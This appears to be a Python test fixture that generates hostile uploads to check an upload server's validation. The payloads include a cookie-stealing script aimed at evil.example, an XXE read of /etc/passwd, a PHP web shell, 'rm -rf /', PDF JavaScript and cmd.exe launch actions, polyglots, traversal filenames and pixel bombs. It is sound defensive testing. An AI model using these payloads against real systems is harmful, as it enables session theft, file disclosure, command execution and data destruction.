"""A corpus of hostile (and awkward but legitimate) uploads, generated on the fly, never committed.

Each `Upload` says what the server must answer: 201 (a real image or PDF, stored re-encoded),
413 (too large: bytes, pixels, pages) or 415 (not an image or PDF, or damaged). `markers` are
byte strings of the upload's payload (script, archive, metadata) that must not survive into
anything stored; `orientation` marks photos whose EXIF orientation must have been applied.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

from PIL import ExifTags, Image, PngImagePlugin

MARK = b"ACORN-HOSTILE-MARKER"
JS = b"alert('ACORN-HOSTILE-MARKER');document.location='https://evil.example/'+document.cookie"
HTML = b"<!DOCTYPE html><html><body><script>" + JS + b"</script></body></html>"
UPRIGHT_SIZE = (240, 160)
QUADRANTS = {"top_left": (255, 0, 0), "top_right": (0, 160, 0), "bottom_left": (0, 0, 255),
             "bottom_right": (255, 255, 255)}
# Stored pixels = the upright picture turned by the inverse of what orientation n asks for.
_INVERSE = {2: Image.Transpose.FLIP_LEFT_RIGHT, 3: Image.Transpose.ROTATE_180,
            4: Image.Transpose.FLIP_TOP_BOTTOM, 5: Image.Transpose.TRANSPOSE,
            6: Image.Transpose.ROTATE_90, 7: Image.Transpose.TRANSVERSE,
            8: Image.Transpose.ROTATE_270}
_rnd = random.Random(7)


@dataclass(frozen=True)
class Upload:
    """One file to try, with the answer it must get."""

    category: str
    label: str
    data: bytes
    expect: int
    filename: str = "invoice.jpg"
    content_type: str = "image/jpeg"
    markers: tuple[bytes, ...] = ()
    orientation: int | None = None


def _noise(size=(96, 64), mode="RGB") -> Image.Image:
    return Image.frombytes(mode, size, _rnd.randbytes(size[0] * size[1] * len(mode)))


def _save(img: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    img.save(out, fmt, **options)
    return out.getvalue()


@cache
def jpeg() -> bytes:
    """A small, valid photo."""
    return _save(_noise(), "JPEG", quality=90)


@cache
def png() -> bytes:
    return _save(_noise(), "PNG")


def upright() -> Image.Image:
    """A picture whose four quadrants have four colours: any wrong turn shows."""
    w, h = UPRIGHT_SIZE
    img = Image.new("RGB", UPRIGHT_SIZE)
    for (x0, y0), colour in zip([(0, 0), (w // 2, 0), (0, h // 2), (w // 2, h // 2)],
                                QUADRANTS.values(), strict=True):
        img.paste(colour, (x0, y0, x0 + w // 2, y0 + h // 2))
    return img


def _gps_exif(orientation: int = 1, make: str = "ACORNCAMERA") -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = make
    exif[ExifTags.Base.Model] = "ACORN-HOSTILE-MARKER"
    exif.get_ifd(ExifTags.IFD.GPSInfo).update({
        ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (31.0, 14.0, 5.5),
        ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (121.0, 28.0, 3.0)})
    return exif


def oriented(orientation: int, fmt: str = "JPEG") -> bytes:
    """The upright picture stored turned, with EXIF orientation and GPS saying how to show it."""
    img = upright()
    if orientation in _INVERSE:
        img = img.transpose(_INVERSE[orientation])
    return _save(img, fmt, exif=_gps_exif(orientation))


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(
        ">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


@cache
def png_20000_square() -> bytes:
    """A real, valid 20000x20000 1-bit PNG of about 50 KB (400 megapixels decoded)."""
    width = height = 20000
    row = b"\x00" + bytes((width + 7) // 8)
    z = zlib.compressobj(9)
    body = b"".join(z.compress(row) for _ in range(height)) + z.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", body)
            + _png_chunk(b"IEND", b""))


def _png_header_only(width: int, height: int) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat)
            + _png_chunk(b"IEND", b""))


def _gif_header(width: int, height: int) -> bytes:
    return (b"GIF89a" + struct.pack("<HH", width, height) + b"\x00\x00\x00" + b","
            + struct.pack("<HHHH", 0, 0, width, height) + b"\x00\x02\x02\x44\x01\x00;")


def _jpeg_sof_claim(width: int, height: int) -> bytes:
    """A JPEG whose frame header claims a huge size."""
    data = bytearray(jpeg())
    sof = data.find(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _bmp_header(width: int, height: int) -> bytes:
    header = struct.pack("<2sIHHI", b"BM", 54 + 64, 0, 0, 54)
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 64, 2835, 2835, 0, 0)
    return header + info + bytes(64)


def gif_js_polyglot() -> bytes:
    """A valid GIF that is also JavaScript: `GIF89a/*...*/=1;alert(...)`."""
    # Width bytes "/*" open a JS comment (10799 px); the trailer's "*/" closes it.
    img = Image.new("P", (4, 4), 0)
    img.putpalette([0, 0, 0, 255, 255, 255] * 128)
    body = _save(img, "GIF")[10:]  # after signature + logical screen width/height
    return b"GIF89a/*\x0a\x00" + body + b"*/=1;" + JS


def make_pdf(page_streams: list[bytes], *, size=(595, 842), extra_catalog: bytes = b"",
             extra_objects: list[bytes] | None = None, annotations: bytes = b"") -> bytes:
    """A small hand-written PDF (objects, xref and trailer) with one text stream per page."""
    extra_objects = extra_objects or []
    n_pages = len(page_streams)
    first_page = 4 + len(extra_objects)
    kids = b" ".join(b"%d 0 R" % (first_page + 2 * i) for i in range(n_pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b" >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % n_pages,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra_objects,
    ]
    for i, stream in enumerate(page_streams):
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] " % size
                       + b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R "
                       % (first_page + 2 * i + 1) + annotations + b">>")
        objects.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return bytes(out)


def _text(line: str) -> bytes:
    return b"BT /F1 24 Tf 72 720 Td (" + line.encode() + b") Tj ET"


def _js_action(js: bytes) -> bytes:
    return b"<< /S /JavaScript /JS (" + js.replace(b"(", b"\\(").replace(b")", b"\\)") + b") >>"


def corpus() -> list[Upload]:
    """Every case, in categories; at least 200."""
    cases: list[Upload] = []
    for make in (_svg, _html, _scripts, _polyglots, _pdfs, _truncated, _corrupt, _oversize,
                 _pixel_bombs, _names, _gps_and_orientation, _huge_metadata, _odd_images,
                 _other_formats, _disguised_real_images):
        cases.extend(make())
    return cases


def _svg() -> list[Upload]:
    svgs = [
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>' + JS + b"</script></svg>",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="' + JS
        + b'"><rect width="10" height="10"/></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org'
        b'/1999/xhtml"><iframe src="javascript:' + JS + b'"/></body></foreignObject></svg>',
        b'\xef\xbb\xbf<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:' + JS
        + b'"><text>x</text></a></svg>',
        b'<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg>&xxe;' + MARK + b"</svg>",
        b'<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="' + JS + b'"/></svg>',
        zlib.compress(b"<svg><script>" + JS + b"</script></svg>"),  # svgz-ish
        b"GIF89a<svg onload=alert(1)>" + MARK,
    ]
    names = [("logo.svg", "image/svg+xml"), ("invoice.jpg", "image/jpeg"),
             ("scan.png", "image/png")]
    return [Upload("svg_with_script", f"svg{i}-{n}", data, 415, n, ct, (MARK,))
            for i, data in enumerate(svgs) for n, ct in names]


def _html() -> list[Upload]:
    pages = [HTML, b"<html><img src=x onerror=" + JS + b">",
             b"\n\n<HTML><BODY ONLOAD=\"" + JS + b"\">",
             b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>" + JS
             + b"</script></html>",
             b"<meta http-equiv='refresh' content='0;url=javascript:" + JS + b"'>"]
    names = [("invoice.jpg", "image/jpeg"), ("invoice.png", "image/png"),
             ("invoice.gif", "image/gif"), ("invoice.pdf", "application/pdf"),
             ("page.html", "text/html")]
    return [Upload("html_renamed", f"html{i}-{n}", data, 415, n, ct, (MARK,))
            for i, data in enumerate(pages) for n, ct in names]


def _scripts() -> list[Upload]:
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as z:
        z.writestr("shell.php", b"<?php system($_GET['c']); // " + MARK)
    scripts = [JS, b"<?php echo '" + MARK + b"'; system($_GET['c']); ?>",
               b"#!/bin/sh\necho " + MARK + b"\nrm -rf /\n",
               b"import os\nos.system('echo " + MARK + b"')\n",
               b"\x7fELF\x02\x01\x01" + bytes(9) + MARK, b"MZ\x90\x00" + bytes(60) + MARK,
               zipped.getvalue(), b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n("
               + MARK + b") show\n"]
    names = [("invoice.jpg", "image/jpeg"), ("photo.png", "image/png"),
             ("run.sh", "application/octet-stream")]
    return [Upload("script_renamed", f"script{i}-{n}", data, 415, n, ct, (MARK,))
            for i, data in enumerate(scripts) for n, ct in names]


def _polyglots() -> list[Upload]:
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as z:
        z.writestr("evil.php", b"<?php // " + MARK)
    jpeg_comment = _save(_noise(), "JPEG", comment=b"<script>" + JS + b"</script>")
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", (b"<html><script>" + JS + b"</script>").decode())
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>" + MARK.decode() + "</x:xmpmeta>")
    gif_comment = _save(_noise().convert("P"), "GIF", comment=b"<script>" + JS + b"</script>")
    webp_xmp = _save(_noise(), "WEBP", xmp=b"<x:xmpmeta><script>" + JS + b"</script></x:xmpmeta>")
    neutralized = [
        ("gif-js", gif_js_polyglot(), "invoice.gif", "image/gif"),
        ("jpeg+zip", jpeg() + zipped.getvalue(), "invoice.jpg", "image/jpeg"),
        ("jpeg+html", jpeg() + HTML, "invoice.jpg", "image/jpeg"),
        ("jpeg-comment-script", jpeg_comment, "invoice.jpg", "image/jpeg"),
        ("png+html-after-iend", png() + HTML, "invoice.png", "image/png"),
        ("png+zip", png() + zipped.getvalue(), "invoice.png", "text/html"),
        ("png-text-chunks", _save(_noise(), "PNG", pnginfo=info), "invoice.png", "image/png"),
        ("gif-comment-script", gif_comment, "invoice.gif", "image/gif"),
        ("webp-xmp-script", webp_xmp, "invoice.webp", "image/webp"),
        ("pdf+html-stream", make_pdf([_text("INVOICE 1"), HTML]), "invoice.pdf",
         "application/pdf"),
    ]
    refused = [
        ("gif-header+js", b"GIF89a/*\x0a\x00*/=1;" + JS, "invoice.gif", "image/gif"),
        ("html-then-pdf", HTML + make_pdf([_text("INVOICE")]), "invoice.pdf",
         "application/pdf"),
        ("zip-then-jpeg", zipped.getvalue() + jpeg(), "invoice.jpg", "image/jpeg"),
        ("html-then-png", HTML + png(), "invoice.png", "image/png"),
    ]
    return ([Upload("polyglot", label, data, 201, n, ct, (MARK,))
             for label, data, n, ct in neutralized]
            + [Upload("polyglot", label, data, 415, n, ct, (MARK,))
               for label, data, n, ct in refused])


def _pdfs() -> list[Upload]:
    page = _text("INVOICE 4711 PO 2JK3S9VC TOTAL 1260.00")
    js_open = make_pdf([page], extra_catalog=b"/OpenAction " + _js_action(JS))
    js_names = make_pdf([page], extra_catalog=b"/Names << /JavaScript 4 0 R >>",
                        extra_objects=[b"<< /Names [(x) " + _js_action(JS) + b"] >>"])
    js_annot = make_pdf([page], annotations=b"/AA << /O " + _js_action(JS) + b" >> ")
    launch = make_pdf([page], extra_catalog=b"/OpenAction << /S /Launch /F (cmd.exe) /P ("
                      + MARK + b") >>")
    attached = make_pdf([page], extra_catalog=b"/Names << /EmbeddedFiles 4 0 R >>",
                        extra_objects=[b"<< /Names [(evil.html) << /Type /Filespec /F (e.html) "
                                       b"/EF << /F 5 0 R >> >>] >>",
                                       b"<< /Length %d >>\nstream\n" % len(HTML) + HTML
                                       + b"\nendstream"])
    form = make_pdf([page], extra_catalog=b"/AcroForm << /Fields [] /XFA (" + MARK + b") >>")
    accepted = [("js-openaction", js_open), ("js-names-tree", js_names),
                ("js-page-annotation", js_annot), ("launch-action", launch),
                ("embedded-html-file", attached), ("xfa-form", form),
                ("three-pages", make_pdf([page, _text("PAGE 2"), _text("PAGE 3")])),
                ("pillow-made", _save(_noise(), "PDF"))]
    cases = [Upload("pdf_with_javascript", label, data, 201, "invoice.pdf", "application/pdf",
                    (MARK, b"alert(")) for label, data in accepted]
    cases += [
        Upload("pdf_limits", "25-pages", make_pdf([page] * 25), 413, "big.pdf",
               "application/pdf"),
        Upload("pdf_limits", "page-20000pt", make_pdf([page], size=(20000, 842)), 413,
               "wide.pdf", "application/pdf"),
        Upload("pdf_limits", "no-pages", make_pdf([]), 415, "empty.pdf", "application/pdf"),
        Upload("pdf_limits", "header-then-garbage", b"%PDF-1.7\n" + _rnd.randbytes(4000), 415,
               "junk.pdf", "application/pdf"),
        Upload("pdf_limits", "header-only", b"%PDF-1.4\n%%EOF\n", 415, "x.pdf",
               "application/pdf"),
    ]
    return cases


def _truncated() -> list[Upload]:
    sources = {"JPEG": (jpeg(), "image/jpeg"), "PNG": (png(), "image/png"),
               "GIF": (_save(_noise().convert("P"), "GIF"), "image/gif"),
               "WEBP": (_save(_noise(), "WEBP"), "image/webp"),
               "TIFF": (_save(_noise(), "TIFF"), "image/tiff"),
               "BMP": (_save(_noise(), "BMP"), "image/bmp"),
               "PROGRESSIVE-JPEG": (_save(_noise(), "JPEG", progressive=True), "image/jpeg")}
    return [Upload("truncated_image", f"{fmt}-{int(f * 100)}%", data[:int(len(data) * f)], 415,
                   f"photo.{fmt.lower()}", ct)
            for fmt, (data, ct) in sources.items() for f in (0.1, 0.3, 0.5, 0.7, 0.9)]


def _corrupt() -> list[Upload]:
    junk = _rnd.randbytes(5000)
    png_bad_crc = bytearray(png())
    png_bad_crc[29] ^= 0xFF  # IHDR CRC
    cases = [
        ("empty", b""), ("one-byte", b"\xff"), ("jpeg-magic-only", b"\xff\xd8\xff\xe0"),
        ("png-magic-only", b"\x89PNG\r\n\x1a\n"), ("gif-magic-only", b"GIF89a"),
        ("webp-magic-only", b"RIFF\x00\x00\x00\x00WEBPVP8 "), ("tiff-magic-only", b"II*\x00"),
        ("jpeg-magic+junk", b"\xff\xd8\xff\xe0" + junk), ("png-magic+junk",
                                                          b"\x89PNG\r\n\x1a\n" + junk),
        ("gif-magic+junk", b"GIF89a" + junk), ("bmp-magic+junk", b"BM" + junk),
        ("tiff-magic+junk", b"II*\x00" + junk), ("webp-riff+junk", b"RIFF" + junk),
        ("png-bad-ihdr-crc", bytes(png_bad_crc)),
        ("jpeg-zero-size", _jpeg_sof_claim(0, 0)),
        ("png-zero-size", _png_header_only(0, 10)),
        ("jpeg-scan-scrambled", jpeg()[:400] + _rnd.randbytes(len(jpeg()) - 400)),
        ("random-bytes", junk), ("nul-bytes", bytes(4096)),
        ("utf16-text", "invoice 4711".encode("utf-16")),
    ]
    return [Upload("corrupt_image", label, data, 415, "photo.jpg", "image/jpeg")
            for label, data in cases]


def _oversize() -> list[Upload]:
    size = 25 * 1024 * 1024
    blob = _rnd.randbytes(size)
    return [Upload("oversize_25mb", label, prefix + blob[len(prefix):], 413, name, ct)
            for label, prefix, name, ct in [
                ("jpeg-header", b"\xff\xd8\xff\xe0", "big.jpg", "image/jpeg"),
                ("png-header", b"\x89PNG\r\n\x1a\n", "big.png", "image/png"),
                ("pdf-header", b"%PDF-1.7\n", "big.pdf", "application/pdf"),
                ("no-header", b"", "big.bin", "application/octet-stream")]]


def _pixel_bombs() -> list[Upload]:
    return [Upload("pixel_bomb", label, data, 413, name, ct) for label, data, name, ct in [
        ("png-20000x20000-valid", png_20000_square(), "bomb.png", "image/png"),
        ("png-65535x65535-claim", _png_header_only(65535, 65535), "bomb.png", "image/png"),
        ("png-100000x500-claim", _png_header_only(100_000, 500), "wide.png", "image/png"),
        ("gif-20000x20000-claim", _gif_header(20000, 20000), "bomb.gif", "image/gif"),
        ("gif-65535x65535-claim", _gif_header(65535, 65535), "bomb.gif", "image/gif"),
        ("jpeg-20000x20000-claim", _jpeg_sof_claim(20000, 20000), "bomb.jpg", "image/jpeg"),
        ("jpeg-65500x65500-claim", _jpeg_sof_claim(65500, 65500), "bomb.jpg", "image/jpeg"),
        ("bmp-20000x20000-claim", _bmp_header(20000, 20000), "bomb.bmp", "image/bmp"),
        ("bmp-7000x7000-claim", _bmp_header(7000, 7000), "bomb.bmp", "image/bmp"),
    ]]


def _names() -> list[Upload]:
    names = ["../../../../etc/passwd", "/etc/passwd", "..\\..\\windows\\win.ini",
             "a/../../b.jpg", "invoice.jpg\x00.php", "\x00", "photo\x00\x00.jpg",
             "<script>alert(1)</script>.jpg", "gpj.exe\u202e.jpg", "CON", ".htaccess",
             "x" * 1000 + ".jpg", "invoice%2F..%2F..%2Fetc.jpg", "~/.ssh/authorized_keys",
             "static/app.js", "发票 照片.jpg"]
    return [Upload("hostile_name", repr(name)[:40], jpeg(), 201, name, "image/jpeg")
            for name in names]


def _gps_and_orientation() -> list[Upload]:
    cases = [Upload("gps_exif", f"jpeg-orientation-{n}", oriented(n), 201, f"o{n}.jpg",
                    "image/jpeg", (b"ACORNCAMERA", MARK), orientation=n) for n in range(1, 9)]
    cases += [Upload("gps_exif", f"{fmt.lower()}-orientation-6", oriented(6, fmt), 201,
                     f"o6.{fmt.lower()}", f"image/{fmt.lower()}", (b"ACORNCAMERA", MARK),
                     orientation=6) for fmt in ("PNG", "WEBP", "TIFF")]
    return cases


def _huge_metadata() -> list[Upload]:
    exif = _gps_exif()
    exif[ExifTags.Base.ImageDescription] = "A" * 60_000 + MARK.decode()
    big_exif = _save(_noise(), "JPEG", exif=exif)
    icc = _save(_noise(), "JPEG", icc_profile=MARK * 20_000)  # 400 KB "profile" in APP2s
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "B" * 500_000 + MARK.decode())
    text_bomb = PngImagePlugin.PngInfo()
    text_bomb.add_text("Comment", "C" * (20 * 1024 * 1024), zip=True)  # 20 MB inflated
    return [
        Upload("huge_exif", "jpeg-60kb-exif", big_exif, 201, markers=(MARK, b"ACORNCAMERA")),
        Upload("huge_exif", "jpeg-400kb-icc", icc, 201, markers=(MARK,)),
        Upload("huge_exif", "png-500kb-text", _save(_noise(), "PNG", pnginfo=info), 201,
               "a.png", "image/png", (MARK,)),
        Upload("huge_exif", "png-ztxt-bomb", _save(_noise(), "PNG", pnginfo=text_bomb), 415,
               "a.png", "image/png"),
    ]


def _odd_images() -> list[Upload]:
    frames = [_noise() for _ in range(3)]
    palette_alpha = _noise().convert("P")
    palette_alpha.info["transparency"] = 0
    sixteen = Image.frombytes("I;16", (64, 48), _rnd.randbytes(64 * 48 * 2))
    images = [
        ("cmyk-jpeg", _save(_noise().convert("CMYK"), "JPEG"), "image/jpeg"),
        ("cmyk-tiff", _save(_noise().convert("CMYK"), "TIFF"), "image/tiff"),
        ("grey-jpeg", _save(_noise().convert("L"), "JPEG"), "image/jpeg"),
        ("progressive-jpeg", _save(_noise(), "JPEG", progressive=True), "image/jpeg"),
        ("16bit-grey-png", _save(sixteen, "PNG"), "image/png"),
        ("16bit-grey-tiff", _save(sixteen, "TIFF"), "image/tiff"),
        ("palette-png", _save(_noise().convert("P"), "PNG"), "image/png"),
        ("palette-transparent-png", _save(palette_alpha, "PNG"), "image/png"),
        ("rgba-png", _save(_noise(mode="RGBA"), "PNG"), "image/png"),
        ("la-png", _save(_noise(mode="LA"), "PNG"), "image/png"),
        ("1bit-png", _save(_noise().convert("1"), "PNG"), "image/png"),
        ("1bit-tiff-g4", _save(_noise().convert("1"), "TIFF", compression="group4"),
         "image/tiff"),
        ("lzw-tiff", _save(_noise(), "TIFF", compression="tiff_lzw"), "image/tiff"),
        ("animated-gif", _save(frames[0].convert("P"), "GIF", save_all=True,
                               append_images=[f.convert("P") for f in frames[1:]]),
         "image/gif"),
        ("animated-png", _save(frames[0], "PNG", save_all=True, append_images=frames[1:]),
         "image/png"),
        ("animated-webp", _save(frames[0], "WEBP", save_all=True, append_images=frames[1:]),
         "image/webp"),
        ("lossless-webp-alpha", _save(_noise(mode="RGBA"), "WEBP", lossless=True),
         "image/webp"),
        ("bmp", _save(_noise(), "BMP"), "image/bmp"),
        ("1x1-png", _save(Image.new("RGB", (1, 1)), "PNG"), "image/png"),
        ("1x10000-png", _save(Image.new("L", (1, 10000), 128), "PNG"), "image/png"),
    ]
    return [Upload("odd_image", label, data, 201, "photo", ct) for label, data, ct in images]


def _other_formats() -> list[Upload]:
    small = _noise((32, 32))
    out = []
    for fmt, img in [("EPS", small), ("ICO", small), ("PCX", small), ("TGA", small),
                     ("PPM", small), ("XBM", small.convert("1")), ("SGI", small),
                     ("IM", small), ("DDS", small), ("JPEG2000", small), ("ICNS", small),
                     ("QOI", small), ("SPIDER", small.convert("F"))]:
        out.append(Upload("unlisted_format", fmt, _save(img, fmt), 415, "photo.jpg",
                          "image/jpeg"))
    return out


def _disguised_real_images() -> list[Upload]:
    """Real images under lying names and types: accepted, because the pixels decide."""
    return [Upload("real_image_wrong_name", label, data, 201, name, ct)
            for label, data, name, ct in [
                ("png-as-php", png(), "shell.php", "application/x-php"),
                ("jpeg-as-html", jpeg(), "index.html", "text/html"),
                ("jpeg-as-svg", jpeg(), "logo.svg", "image/svg+xml"),
                ("png-no-name", png(), "", "application/octet-stream")]]
